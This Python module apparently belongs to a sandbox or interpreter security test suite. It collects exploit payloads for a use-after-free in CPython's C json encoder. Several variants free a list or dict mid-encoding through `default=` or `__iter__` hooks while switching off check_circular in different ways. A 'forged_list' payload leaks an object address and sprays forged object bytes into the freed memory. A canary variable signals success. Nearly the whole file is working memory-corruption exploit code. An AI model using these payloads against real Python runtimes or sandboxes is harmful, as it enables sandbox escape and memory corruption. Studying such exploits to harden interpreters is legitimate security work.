"""C code of json iterates over what it only borrows: `default=` or an `__iter__` frees it.

What it keeps to find a circle holds a dict, where it is told to look for one; it asks for `__iter__` before that. The
generator that ends tells that the object was freed; an attack goes on with forged bytes in its place.
"""

ADVISORY = ""
GUARANTEE = "no-reflection"

_OPEN = """
import json
ended = []
def open_():
    try:
        yield
    finally:
        ended.append(1)
def opened():
    made = open_()
    next(made)
    return made
def look():
    global LOOT
    if ended:
        LOOT = CANARY
    raise ValueError
outer = []
"""
_DEFAULT = (
    _OPEN
    + """
class D(dict):
    pass
def default(value):
    outer.clear()
    look()
{ways}
def fill():
    d = D(a=...)
    d.held = opened()
    outer.append(d)
fill()
try:
    made.encode(outer)
except ValueError:
    pass
"""
)
_PROPERTY = """
class Encoder(json.JSONEncoder):
    check_circular = property(lambda self: False, lambda self, value: None)
made = Encoder(default=default)
"""
_DUMPS = """
class made:
    @staticmethod
    def encode(value):
        return json.dumps(value, default=default, check_circular=False)
"""
_BY_CLASS = """
class Encoder(json.JSONEncoder):
    def __init__(self, **options):
        super().__init__(check_circular=False, default=default)
class made:
    @staticmethod
    def encode(value):
        return json.dumps(value, cls=Encoder)
"""
_ATTRIBUTE = """
class Encoder(json.JSONEncoder):
    pass
made = Encoder(default=default)
made.check_circular = False
"""
_WAYS = {
    "dumps": _DUMPS,
    "cls": _BY_CLASS,
    "argument": "made = json.JSONEncoder(check_circular=False, default=default)",
    "attribute": _ATTRIBUTE,
    "property": _PROPERTY,
}
ATTACKS = {name: _DEFAULT.format(ways=ways) for name, ways in _WAYS.items()}

_ITERATED = (
    _OPEN
    + """
class L(list):
    def __iter__(self):
        outer.clear()
        del self
        look()
def fill():
    made = L([1])
    made.held = opened()
    outer.append(made)
fill()
try:
    {encode}
except ValueError:
    pass
"""
)
ATTACKS |= {
    "iter": _ITERATED.format(encode="json.dumps(outer)"),
    "iter_by_encode": _ITERATED.format(encode="json.JSONEncoder().encode(outer)"),
    "iter_by_one_shot": _ITERATED.format(encode="list(json.JSONEncoder().iterencode(outer, True))"),
}
_LATER = """
class Plainly:
    def __bool__(self):
        if not outer:
            fill()
        return False
"""
#: A hook that runs before C's encoder is made, and puts the list in that has hooks.
ATTACKS["iter_put_in_by_a_choice"] = _ITERATED.replace("fill()\ntry:", _LATER + "try:").format(
    encode="json.dumps(outer, sort_keys=Plainly(), allow_nan=Plainly())"
)
#: What C does to the reference count of the forged list.
_FORGED = """
import json
FAKE = bytes(16) + (1000).to_bytes(8, "little") + ADDRESS.to_bytes(8, "little") + b"\\xff" * 47
held = []
class L(list):
    __slots__ = ("a", "b", "c")
    def __iter__(self):
        outer.clear()
        del self
        for _ in range(4):
            held.append(bytearray(FAKE))
        return iter([...])
def default(value):
    global LOOT
    if any(each != FAKE for each in held):
        LOOT = CANARY
    return 1
outer = [L([1]), 2]
json.dumps(outer, default=default)
"""
_ADDRESS = "ADDRESS = int(repr(int.from_bytes).rsplit('0x')[1].rstrip('>'), 16)\n"
ATTACKS["forged_list"] = _ADDRESS + _FORGED
